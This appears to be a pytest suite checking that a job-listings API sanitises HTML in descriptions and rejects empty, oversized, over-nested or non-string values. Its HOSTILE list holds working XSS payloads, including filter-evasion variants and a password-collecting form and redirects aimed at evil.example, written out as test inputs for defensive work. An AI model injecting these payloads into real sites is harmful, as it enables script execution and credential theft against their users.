"""Descriptions: of whatever HTML is sent, what may stand on a page is kept."""

import json
import re

import pytest

from tests.api.job_listings.conftest import Listings

KEPT = (
    "<h3>What you do</h3><p>Care <strong>at</strong> <em>home</em>, <u>always</u>.<br>Nights.</p>"
    "<ul><li>One</li></ul><ol><li>Two &amp; &lt;three&gt;</li></ol><h4>Apply</h4>"
    '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener">Site</a> '
    '<a href="mailto:jobs@example.com" rel="noopener">Mail</a></p>'
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://a.example\" onmouseover=\"alert(1)'>x</a>",
    "<p onclick=alert(1) style='position:fixed' class=x id=y>x</p>",
    "<p>x<!-- --><!--><img src=x onerror=alert(1)>--></p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<style>@import url(https://evil.example)</style>",
    "<link rel=stylesheet href=https://evil.example><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<p>a&#1;b&#8238;c&#x202e;d</p>",
    "\u202e<b>x",
    "</p></div></body><h1>x",
]
TAG = re.compile(
    "</?(p|strong|em|u|ul|ol|li|h3|h4)>|<br>|</a>"
    '|<a( href="(https?://|mailto:|tel:)[^"<>\\s]*")? rel="noopener">'
)


def test_text_of_the_editor_is_kept_as_it_is(listings: Listings):
    row = listings.row(description=KEPT)
    assert row["description"] == KEPT
    assert row["summary"] == (
        "What you do: Care at home, always. Nights. One. Two & <three>. Apply: Site Mail."
    )


@pytest.mark.parametrize("html", HOSTILE)
def test_what_may_not_stand_on_a_page_is_removed_without_an_error(listings: Listings, html: str):
    row = listings.row(description=f"<p>Before</p>{html}")
    assert row["description"].startswith("<p>Before</p>")
    rest = TAG.sub("", row["description"])
    assert "<" not in rest
    assert ">" not in rest
    for mark in "\u0001\u202e":
        assert mark not in row["description"]
    assert listings.change(row, description=f"<p>More</p>{html}").is_success


def test_address_of_a_link_is_written_in_one_way(listings: Listings):
    row = listings.row(description="<a href=' HTTPS://Example.com/A ' target=_blank>x</a>")
    assert row["description"] == '<a href="https://Example.com/A" rel="noopener">x</a>'


@pytest.mark.parametrize(
    "html", ["", "  ", "<p></p>", "<p><br></p>", "<p>&nbsp;</p>", "<script>alert(1)</script>"]
)
def test_description_without_text_is_refused(listings: Listings, html: str):
    answer = listings.agency.api.post(
        listings.path, listings.agency.admin, listings.body(description=html)
    )
    assert answer.status_code == 422
    [detail] = answer.json()["details"]
    assert (detail["field"], detail["code"]) == ("description", "required")


@pytest.mark.parametrize(
    ("html", "code"), [("x" * 20_001, "too_long"), ("<ul><li>" * 1_001 + "x", "invalid")]
)
def test_description_that_is_too_long_or_too_deep_is_refused(
    listings: Listings, html: str, code: str
):
    answer = listings.agency.api.post(
        listings.path, listings.agency.admin, listings.body(description=html)
    )
    assert answer.status_code == 422
    [detail] = answer.json()["details"]
    assert (detail["field"], detail["code"]) == ("description", code)


def test_half_a_character_is_removed(listings: Listings):
    content = json.dumps(listings.body(description="\ud800Half"))
    answer = listings.agency.api.call(
        "POST",
        listings.path,
        listings.agency.admin,
        content=content,
        headers={"Content-Type": "application/json"},
    )
    assert answer.json()["data"]["description"] == "Half"


def test_length_is_that_of_what_is_left(listings: Listings):
    text = "x" * 19_993
    html = f"<div class='pasted'><script>{text}</script>{text}</div>"
    assert listings.row(description=html)["description"] == f"<p>{text}</p>"


@pytest.mark.parametrize("value", [None, 1, ["<p>x</p>"], {"html": "x"}])
def test_description_is_text(listings: Listings, value: object):
    answer = listings.agency.api.post(
        listings.path, listings.agency.admin, listings.body(description=value)
    )
    assert answer.status_code == 422
